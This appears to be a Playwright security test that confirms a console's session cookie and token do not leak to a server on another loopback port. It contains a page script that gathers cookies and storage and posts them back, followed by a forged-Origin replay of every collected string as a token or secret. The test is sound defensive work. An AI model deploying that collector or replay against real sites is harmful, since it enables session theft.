/**
 * The finding "the web host's session rides on a port-agnostic cookie", proven closed: a browser
 * signed in to the console visits a server on another loopback port (a new tab, and the console's
 * own tab navigating there and back). That server records every request the browser sends it, and
 * its page collects everything a script there can read (cookies, both storages, referrer, name,
 * address) and a same-site fetch of its own. Nothing it received holds a cookie, the session token
 * or the sign-in secret; then a non-browser client with a forged Origin replays every header and
 * tries every string it collected as a token and as a secret: the bridge refuses every one.
 */
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { WS_PATH } from '../../src-main/shared/ws-protocol';
import { secretOf } from '../support/reliability/web-host';
import { invoke } from './helpers/bridge';
import { handshake } from './helpers/socket';
import { expect, tabToken, test } from './support/fixtures';

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** Everything a script on that page can reach, posted back to its own server. */
const COLLECTOR = `<!doctype html><html><body><h1>Shared terminal page</h1><script>
(async () => {
  const dump = (s) => JSON.stringify(Object.fromEntries(Object.keys(s).map((k) => [k, s.getItem(k)])));
  await fetch('/ping', { credentials: 'include' });
  const loot = {
    cookie: document.cookie, local: dump(localStorage), session: dump(sessionStorage),
    referrer: document.referrer, name: window.name, href: location.href, opener: String(window.opener),
  };
  await fetch('/collect', { method: 'POST', credentials: 'include', body: JSON.stringify(loot) });
  document.body.dataset.done = 'yes';
})();
</script></body></html>`;

async function recordingServer(): Promise<{ origin: string; seen: Seen[]; close(): void }> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (req.method === 'GET' && req.url?.startsWith('/?')) {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(COLLECTOR);
      } else {
        res.writeHead(204);
        res.end();
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, seen, close: () => server.close() };
}

/** Every string in what the server received: header values, addresses, bodies and their parts. */
function candidates(seen: Seen[]): string[] {
  const found = new Set<string>();
  const add = (value: unknown): void => {
    if (typeof value === 'string') {
      found.add(value);
      for (const part of value.split(/[\s;,=&?#/"'{}:]+/)) if (part) found.add(part);
      try {
        add(JSON.parse(value));
      } catch {
        // not JSON
      }
    } else if (Array.isArray(value)) value.forEach(add);
    else if (value && typeof value === 'object') Object.values(value).forEach(add);
  };
  for (const s of seen) add([s.url, s.body, s.headers]);
  return [...found];
}

/** Request headers worth replaying on a WebSocket handshake (the rest belong to that request). */
function replayable(headers: IncomingMessage['headers']): Record<string, string> {
  const skip = /^(host|connection|upgrade|content-length|origin|sec-websocket-.*)$/;
  return Object.fromEntries(
    Object.entries(headers)
      .filter(([name, value]) => !skip.test(name) && value !== undefined)
      .map(([name, value]) => [name, Array.isArray(value) ? value.join(', ') : String(value)]),
  );
}

test('a server on another loopback port receives no credential, and nothing it gets opens the bridge', async ({
  console: app,
  host,
}) => {
  const other = await recordingServer();
  try {
    const token = await tabToken(app.page);
    const secret = secretOf(host.loginUrl);
    expect(token).toMatch(/^[\w-]{43}$/);

    // A new tab of the same browser visits it…
    const tab = await app.page.context().newPage();
    await tab.goto(`${other.origin}/?tab=new`);
    await expect(tab.locator('body[data-done="yes"]')).toBeAttached();
    // …and so does the console's own tab (a link followed), then comes back signed in.
    await app.page.goto(`${other.origin}/?tab=console`);
    await expect(app.page.locator('body[data-done="yes"]')).toBeAttached();
    await app.page.goBack();
    await expect(app.page.getByRole('button', { name: 'Sign out' })).toBeVisible();

    expect(other.seen.filter((s) => s.url === '/collect')).toHaveLength(2);
    expect(other.seen.length).toBeGreaterThanOrEqual(6);
    for (const s of other.seen) expect(s.headers.cookie, `${s.method} ${s.url}`).toBeUndefined();
    const everything = JSON.stringify(other.seen);
    expect(everything).not.toContain(token);
    expect(everything).not.toContain(secret);
    for (const s of other.seen.filter((x) => x.url === '/collect')) {
      expect(JSON.parse(s.body)).toMatchObject({ cookie: '', session: '{}', referrer: '' });
    }

    // Replay: our Origin forged, every header it received, every string it got as token and secret.
    const ws = `${app.url.replace('http', 'ws')}${WS_PATH}`;
    const tries = candidates(other.seen);
    let attempts = 0;
    const opened: string[] = [];
    for (const s of other.seen) {
      const headers = { ...replayable(s.headers), Origin: app.url };
      const asIs = await handshake(ws, headers, { type: 'invoke', id: 1, name: 'profiles:list' });
      attempts += 1;
      if (asIs.frames.some((f) => f.type !== 'refused')) opened.push(`${s.url} as is`);
    }
    for (const value of tries) {
      for (const first of [
        { type: 'resume', token: value },
        { type: 'sign-in', secret: value },
      ]) {
        const attempt = await handshake(ws, { Origin: app.url }, first);
        attempts += 1;
        expect(attempt.status).toBe(101);
        if (attempt.frames.some((f) => f.type !== 'refused')) opened.push(JSON.stringify(first));
      }
    }
    console.log(
      `[security] second loopback server: ${other.seen.length} requests received, 0 cookies; ` +
        `${tries.length} strings collected, ${attempts} forged-Origin attempts, ${opened.length} opened`,
    );
    expect(tries.length).toBeGreaterThan(20);
    expect(opened).toEqual([]);
    // The console itself still works.
    expect(await invoke(app.page, 'profiles:list', {})).toMatchObject({ ok: true });
    await tab.close();
  } finally {
    other.close();
  }
});
